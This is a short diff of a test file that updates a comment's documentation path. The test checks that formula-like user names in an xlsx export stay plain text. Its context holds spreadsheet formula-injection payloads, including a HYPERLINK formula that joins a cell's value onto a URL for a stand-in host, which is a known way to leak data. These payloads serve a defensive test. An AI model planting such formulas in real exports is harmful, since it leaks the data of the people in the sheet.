@@ -489,7 +489,7 @@ HYPERLINK = '=HYPERLINK("http://x"&C4,"Bấm để xem")'
 def test_the_golden_book_as_xlsx_keeps_every_text_from_users_a_plain_string(
     scene: Scene, clients: dict[str, Client]
 ) -> None:
-    # RELIABILITY.md, "Exports": a name typed as a formula stays the text it is.
+    # docs/reliability.md, "Exports": a name typed as a formula stays the text it is.
     scene.body.name = "=1+2"
     scene.commune_a.name = "\t=1+1"
     award = person_award(scene)
